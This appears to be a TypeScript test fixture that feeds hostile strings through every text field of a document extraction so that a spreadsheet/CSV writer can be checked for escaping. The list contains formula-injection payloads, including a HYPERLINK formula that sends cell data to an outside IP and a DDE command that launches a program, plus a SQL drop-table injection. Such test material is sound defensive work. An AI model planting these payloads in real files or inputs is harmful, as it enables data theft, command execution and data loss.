import type { Extraction } from '../../../src/pipeline/schema.ts'
import { exampleExtraction } from '../example-extraction.ts'

/** Texts that break a careless writer: formulas, quotes, line breaks of every kind, marks that are no characters, lists in a list's clothes. */
export const hostileTexts: readonly string[] = [
  '=HYPERLINK("http://198.51.100.7/?"&A1,"详情")',
  "=cmd|' /C calc'!A0",
  '+1-2*3',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '＝１＋１',
  "'=1+1",
  "'",
  '"',
  '引号"与,逗号',
  '第一行\n第二行\r\n第三行\r第四行',
  '[“甲”, "乙"]',
  '{"甲": 1}',
  'null',
  'NULL',
  '\\N',
  '\\" \\n \\u0041',
  ',,,',
  '"",""',
  '𠮷祥坊🏮',
  '\uFEFF=1+1',
  '单\uD83D半',
  '零\0字',
  '\u0001\u000B\u001F控制',
  '</t><f>1+1</f>',
  '&amp; <b>',
  "'); drop table amounts; --",
  ' 前后空格 ',
  '007',
  '2022-01',
  '長'.repeat(40_000),
]

/** A document of which every text that comes from outside is one of the hostile ones, in turn. */
export function hostileExtraction(): Extraction {
  const example = exampleExtraction()
  const report = example.reports[0] as Extraction['reports'][number]
  const [amount] = report.amounts
  const [check] = report.checks
  if (!amount || !check) throw new Error('the example has an amount and a check')
  const amounts = hostileTexts.map((text, i) => ({
    ...amount,
    id: `a${i + 1}`,
    subject: text,
    subject_path: [text, '甲', text],
    raw: text,
    period: text,
    fund_source: text,
    evidence: amount.evidence.map((one) => ({ ...one, quote: text })),
  }))
  const checks = hostileTexts.map((text, i) => ({
    ...check,
    id: `c${i + 1}`,
    subject: text,
    stated: text,
    computed: text,
    unit: text,
    formula: text,
    inputs: [text, text],
    message: { zh: text, en: text },
    evidence: [],
  }))
  return {
    ...example,
    source: { ...example.source, sha256: 'f'.repeat(64), file: '=1+1,"x"\n.pdf' },
    problems: [{ code: 'pdf.odd', level: 'note', page: null, message: '=1+1', message_en: '@x', block: null }],
    reports: [{ ...report, title: '=1+1', organization: '-甲', amounts, checks }],
  }
}
